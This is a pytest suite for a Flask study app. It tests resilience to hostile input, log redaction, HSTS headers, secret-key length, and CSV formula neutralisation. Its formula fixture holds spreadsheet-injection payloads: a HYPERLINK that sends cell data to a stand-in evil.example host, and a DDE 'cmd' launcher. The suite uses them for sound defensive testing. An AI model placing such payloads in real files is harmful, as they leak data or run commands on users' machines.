"""Hostile input never gets a 500 (ids no database holds, far dates, blank and huge numbers), database errors
keep typed text out of the log, and the hardening of issue 10's item 11: HSTS over HTTPS, no short secret key,
no spreadsheet formulas in exports."""

import csv
import io
import logging
import re
from pathlib import Path

import pytest
from flask import request
from wtforms import DecimalField, FloatField, IntegerField
from wtforms.fields.core import UnboundField

import failforward
from failforward import create_app
from failforward.accounts.models import User
from failforward.extensions import db
from failforward.forms import Form
from failforward.study import services as study
from failforward.study.models import StudyItem
from tests.conftest import make_test_app
from tests.security_world import POSTS, build_full_world, dump, path_for, sign_in

# Numbers no id column holds: PostgreSQL's INTEGER ends at 2**31 - 1, SQLite's at 2**63 - 1; the last is longer
# than Python turns into an int at all (4,300 digits).
HUGE_IDS = (str(2**31), str(2**63 - 1), str(2**63), "99999999999999999999999", "9" * 400, "9" * 5000)


def int_parts(rule) -> list[str]:
    return re.findall(r"<int:(\w+)>", rule.rule)


def rules_with_ids(app) -> list:
    return sorted((rule for rule in app.url_map.iter_rules() if int_parts(rule)), key=lambda rule: rule.rule)


@pytest.mark.parametrize("role", ["learner", "coach"])
def test_every_route_with_an_id_answers_404_for_an_id_no_database_holds(app, role):
    w = build_full_world()
    client = app.test_client()
    sign_in(client, getattr(w, role))
    before = dump()
    assert len(rules_with_ids(app)) > 50
    for rule in rules_with_ids(app):
        for part in int_parts(rule):
            marker = 7_654_321  # built with a real id in every other part, then swapped for the huge one
            path = path_for(app, rule, w, **{part: marker})
            for huge in HUGE_IDS:
                for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
                    data = POSTS[rule.endpoint].data(w) if method == "POST" and rule.endpoint in POSTS else None
                    response = client.open(path.replace(str(marker), huge), method=method, data=data)
                    assert response.status_code == 404, (method, rule.rule, part, huge[:30], response.status_code)
    assert dump() == before


# Every id in a query string, by endpoint (its GET, or its POST); page numbers are clamped to the last page.
QUERY_NUMBERS = {
    "ledger.new": ("drill",),
    "ledger.index": ("goal", "drill"),
    "study.session": ("deck",),
    "study.answer": ("deck",),
    "study.rate": ("deck",),
    "study.share_leech": ("deck",),
    "study.stats": ("deck",),
    "lessons.new": ("rep", "reflection", "routine", "feedback", "follow_up"),
    "reflection.new": ("rep",),
    "reflection.routine_start": ("reflection",),
    "cycles.new": ("drill", "after"),
    "feedback.queue": ("learner",),
}


def test_every_integer_query_parameter_is_in_the_list():
    """The list above is every one: a new `request.args.get(..., type=...)` or query_number() must join it."""
    source = "\n".join(path.read_text() for path in Path(failforward.__file__).parent.rglob("routes.py"))
    assert "type=int" not in source, "read integer query parameters with web.query_number()"
    named = set(re.findall(r"query_number\(\"(\w+)\"", source))
    assert named and named <= {name for names in QUERY_NUMBERS.values() for name in names}


@pytest.mark.parametrize("endpoint", sorted(QUERY_NUMBERS))
def test_a_query_number_no_database_holds_answers_404(app, endpoint):
    w = build_full_world()
    client = app.test_client()
    sign_in(client, w.learner)
    rule = next(rule for rule in app.url_map.iter_rules() if rule.endpoint == endpoint)
    method = "POST" if "POST" in rule.methods else "GET"
    before = dump()
    for name in QUERY_NUMBERS[endpoint]:
        for huge in HUGE_IDS:
            data = POSTS[endpoint].data(w) if method == "POST" else None
            response = client.open(path_for(app, rule, w), method=method, query_string={name: huge}, data=data)
            assert response.status_code == 404, (name, huge[:30], response.status_code)
    assert dump() == before  # a POST with a number that names nothing acts on nothing


@pytest.mark.parametrize(("endpoint", "field", "value"), [
    ("reflection.create", "rep_id", "99999999999"),
    ("lessons.create", "source", "rep:999999999999"),
    ("reflection.start_routine", "reflection", str(2**63)),
])
def test_an_id_in_a_form_field_that_no_database_holds_names_nothing(app, endpoint, field, value):
    w = build_full_world()
    client = app.test_client()
    sign_in(client, w.learner)
    post = POSTS[endpoint]
    response = client.post(post.path(w), data={**post.data(w), field: value})
    assert response.status_code < 500
    assert post.happened(w, client)  # saved, from nothing in particular


@pytest.mark.parametrize("query", ["/lessons/review?week=9999-12-31", "/lessons/review?week=0001-01-01",
                                   "/lessons/review?week=9999-12-27", "/lessons/review?week=1899-12-31",
                                   "/lessons/review?week=3000-01-01", "/lessons/month?month=9999-12",
                                   "/lessons/month?month=0001-01", "/lessons/month?month=3000-01"])
def test_a_week_or_month_far_from_any_calendar_answers_404(client, learner, query):
    sign_in(client, learner.id)
    assert client.get(query).status_code == 404


@pytest.mark.parametrize(("page", "beyond"), [
    ("/lessons/review?week=1900-01-01", "/lessons/review?week=1899-12-25"),
    ("/lessons/review?week=2999-12-31", "/lessons/review?week=3000-01-06"),
    ("/lessons/month?month=1900-01", "/lessons/month?month=1899-12"),
    ("/lessons/month?month=2999-12", "/lessons/month?month=3000-01"),
])
def test_the_first_and_last_week_and_month_show_and_the_link_beyond_them_is_404(client, learner, page, beyond):
    sign_in(client, learner.id)
    response = client.get(page)
    assert response.status_code == 200
    assert f'href="{beyond}"' in response.get_data(as_text=True)
    assert client.get(beyond).status_code == 404


# --- every numeric field of every form ---------------------------------------------------------------

NUMBER_CLASSES = (IntegerField, FloatField, DecimalField)


def numeric_fields() -> set[tuple[str, str]]:
    """(form, field) for every field that reads a number: number fields, and choices coerced to int."""
    forms, todo = set(), [Form]
    while todo:
        form = todo.pop()
        forms.add(form)
        todo.extend(form.__subclasses__())
    return {(form.__name__, name) for form in forms for name, unbound in vars(form).items()
            if isinstance(unbound, UnboundField) and (issubclass(unbound.field_class, NUMBER_CLASSES)
                                                      or unbound.kwargs.get("coerce") is int)}


# Where each numeric field is posted, and whether it may be left empty.
NUMERIC_FIELDS = {
    ("GoalForm", "baseline"): ("goals.create", "required"),
    ("GoalForm", "target"): ("goals.create", "required"),
    ("GoalForm", "weeks_required"): ("goals.create", "required"),
    ("GoalForm", "partial_from_pct"): ("goals.create", "optional"),  # empty: halfway
    ("DrillForm", "time_box_minutes"): ("goals.create_drill", "optional"),
    ("DrillForm", "planned_reps_per_week"): ("goals.create_drill", "required"),
    ("CopyDrillForm", "drill_id"): ("goals.copy_drill", "required"),
    ("RepForm", "drill_id"): ("ledger.create", "required"),
    ("RepForm", "value"): ("ledger.create", "required"),
    ("RepForm", "duration_minutes"): ("ledger.create", "optional"),
    ("ContractForm", "feedback_due_hours"): ("coaching.update_contract", "required"),
    ("AcceptContractForm", "version"): ("coaching.accept_contract", "hidden"),
    ("SettingsForm", "checkin_weekday"): ("accounts.update_settings", "required"),
    ("SettingsForm", "checkin_hour"): ("accounts.update_settings", "required"),
    ("SettingsForm", "new_per_day"): ("study.update_settings", "required"),
    ("SettingsForm", "desired_retention"): ("study.update_settings", "required"),
    ("AnswerForm", "confidence"): ("study.answer", "required"),
    ("RateForm", "rating"): ("study.rate", "required"),
    ("AskForm", "extra_reps"): ("feedback.create", "required"),  # checkboxes: no browser sends spaces
    ("RuleForm", "adopt_if_pct"): ("cycles.update_rule", "required"),
    ("RuleForm", "harm_tolerance_pct"): ("cycles.update_rule", "required"),
    ("RuleForm", "min_reps"): ("cycles.update_rule", "required"),
    ("PlanForm", "scope_pct"): ("cycles.create", "required"),
    ("PlanForm", "timebox_days"): ("cycles.create", "required"),
    ("StartForm", "timer_minutes"): ("premortems.create", "required"),
    ("StartForm", "dots"): ("premortems.create", "required"),
    ("ConvertForm", "threshold"): ("premortems.update_risk", "optional"),  # a manual tripwire takes none
    **{("PersonalContractForm", name): ("thresholds.update", "required") for name in (
        "drill_misses_count", "drill_misses_days", "drill_misses_window_hours", "weekly_misses_count",
        "weekly_misses_window_hours", "tripwire_window_hours", "setback_intensity", "setback_window_hours")},
    ("ActionForm", "owner_id"): ("reviews.add_action", "required"),
}
# Never a number any field takes; each gets a message beside the field.
NOT_NUMBERS = ("9" * 309, "-" + "9" * 400, "9" * 5000, str(2**63), "99999999999999999999999", "1e309", "NaN", "inf")
BLANKS = ("   ", "\t", " \u00a0 ")
# Odd, but some fields may take them: they only must not break anything.
ODD = ("-0", "²", "٣", "0x10", "1_000", "+5", "-5", "1.5", "5.")


def test_every_numeric_field_of_every_form_is_in_the_list(app):
    assert numeric_fields() == NUMERIC_FIELDS.keys()


@pytest.mark.parametrize(("form", "field"), sorted(NUMERIC_FIELDS))
def test_every_numeric_field_answers_hostile_numbers_with_a_message_beside_it(app, form, field):
    w = build_full_world()
    endpoint, kind = NUMERIC_FIELDS[(form, field)]
    post = POSTS[endpoint]
    client = app.test_client()
    sign_in(client, getattr(w, post.who))
    before = dump()
    refused = NOT_NUMBERS + (BLANKS if kind == "required" else ())
    for value in refused + ODD:
        response = client.post(post.path(w), data={**post.data(w), field: value})
        assert response.status_code < 500, (value[:30], response.status_code)
        if value not in refused:
            continue
        if kind == "hidden":
            assert response.status_code == 303 and dump() == before, value[:30]
            continue
        assert response.status_code == 422, (value[:30], response.status_code)
        assert f'id="{field}-error"' in response.get_data(as_text=True), value[:30]
    for value in BLANKS if kind == "optional" else ():
        assert client.post(post.path(w), data={**post.data(w), field: value}).status_code == 303


def test_a_blank_number_is_asked_for_again_with_its_own_message(client, learner, drill):
    sign_in(client, learner.id)
    response = client.post("/reps", data={"drill_id": str(drill.id), "value": "   ", "idempotency_key": "blank-value"})
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert '<p class="error" id="value-error">Enter the value you measured, as a number.</p>' in page


# --- database errors in the log ------------------------------------------------------------------

TYPED = "my-private-typed-text-4711"


def test_a_failing_statement_does_not_write_what_was_typed_into_the_log(tmp_path, smtp_server, inbox, caplog):
    app = make_test_app(tmp_path, smtp_server)

    def save_without_an_email():
        """An insert that the database refuses (no email), carrying what the person typed."""
        db.session.execute(db.insert(User).values(name=request.form["name"], email=None, password_hash="x"))
        return "saved"

    app.add_url_rule("/typed", "typed", save_without_an_email, methods=["POST"])
    with app.app_context():
        with caplog.at_level(logging.ERROR):
            response = app.test_client().post("/typed", data={"name": TYPED})
        assert response.status_code == 500
        assert "unhandled error on POST /typed" in caplog.text and "IntegrityError" in caplog.text
        assert "save_without_an_email" in caplog.text  # the traceback is still there to debug with
        assert TYPED not in caplog.text
        assert all(TYPED not in str(record.args) for record in caplog.records)
        db.drop_all()
        db.engine.dispose()


# --- HTTPS: Strict-Transport-Security --------------------------------------------------------------

HSTS = "max-age=31536000; includeSubDomains"


def test_every_https_response_carries_hsts_and_no_plain_http_one_does(app, client, htmx_client):
    def responses(base_url: str) -> list:
        return [client.get("/", base_url=base_url), client.get("/login", base_url=base_url),
                client.get("/no-such-page", base_url=base_url), client.get("/static/app.css", base_url=base_url),
                client.post("/login", data={"email": "x"}, base_url=base_url),
                htmx_client.post("/signup", data={}, base_url=base_url)]

    secure, plain = responses("https://localhost"), responses("http://localhost")
    assert [r.status_code for r in secure] == [200, 200, 404, 200, 422, 422]
    for response in secure:
        assert response.headers.get("Strict-Transport-Security") == HSTS
        response.close()
    for response in plain:
        assert "Strict-Transport-Security" not in response.headers
        response.close()


# --- a secret key long enough to sign sessions -------------------------------------------------------

def app_with_key(tmp_path, key, **config):
    return create_app({"SECRET_KEY": key, "INSTANCE_PATH": str(tmp_path / "instance"),
                       "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'key.sqlite3'}", "HUEY_IMMEDIATE": True,
                       **config})


def test_a_secret_key_shorter_than_32_bytes_is_refused_outside_debug_and_tests(tmp_path):
    for short in ("x" * 31, "short-but-not-a-placeholder", b"\x00" * 31, "é" * 15 + "x"):
        with pytest.raises(RuntimeError, match="shorter than 32 bytes"):
            app_with_key(tmp_path, short)
    for key in ("x" * 32, "é" * 16, b"\x01" * 32):
        assert app_with_key(tmp_path, key).config["SECRET_KEY"] == key
    assert app_with_key(tmp_path, "short", DEBUG=True).debug
    assert app_with_key(tmp_path, "short", TESTING=True).testing
    generated = app_with_key(tmp_path, None).config["SECRET_KEY"]
    assert len(generated.encode()) >= 32


# --- exports: no spreadsheet formulas --------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-3", "-2+3",
            "@SUM(A1:A9)", "'=already quoted", "''@twice"]


@pytest.fixture
def formula_deck(app, client, coach, learner, the_link):
    """A deck of Lee's in which the coach wrote formulas (a coach may add items to a learner's deck); the
    client is Lee's."""
    deck = study.create_deck(learner, learner, "Maths", "")
    coach_browser = app.test_client()
    sign_in(coach_browser, coach.id)
    for formula in FORMULAS:
        response = coach_browser.post(f"/study/decks/{deck.id}/items",
                                      data={"prompt": formula, "answer": f"{formula} answer", "tags": "plain"})
        assert response.status_code == 303
    sign_in(client, learner.id)
    return deck


def cells(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def test_an_exported_deck_opens_in_a_spreadsheet_without_formulas(client, formula_deck):
    # The CSV is for spreadsheets. The Anki file is for Anki, which would show a leading quote as part of
    # the card, so it keeps the text as typed (the round trip below covers both).
    response = client.get(f"/study/decks/{formula_deck.id}/export")
    assert response.status_code == 200
    rows = cells(response.get_data(as_text=True), ",")
    assert len(rows) == len(FORMULAS)
    for row, formula in zip(rows, FORMULAS, strict=True):
        assert row[0] == "'" + formula, row  # a leading quote: the spreadsheet shows text
        assert row[1] == "'" + formula + " answer"
        assert row[2] == "plain"
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.parametrize("query", [{}, {"format": "anki"}])
def test_an_exported_deck_imports_back_as_it_was(client, learner, formula_deck, query):
    exported = client.get(f"/study/decks/{formula_deck.id}/export", query_string=query).get_data(as_text=True)
    if not query:  # the CSV: neutralised, yet read back as typed
        assert "'=HYPERLINK" in exported and "'''@twice" in exported
    copy = study.create_deck(learner, learner, "Maths again", "")
    assert client.post(f"/study/decks/{copy.id}/import/confirm", data={"text": exported}).status_code == 303
    imported = db.session.scalars(db.select(StudyItem).filter_by(deck_id=copy.id).order_by(StudyItem.id)).all()
    assert [(item.prompt, item.answer) for item in imported] == [(f, f"{f} answer") for f in FORMULAS]
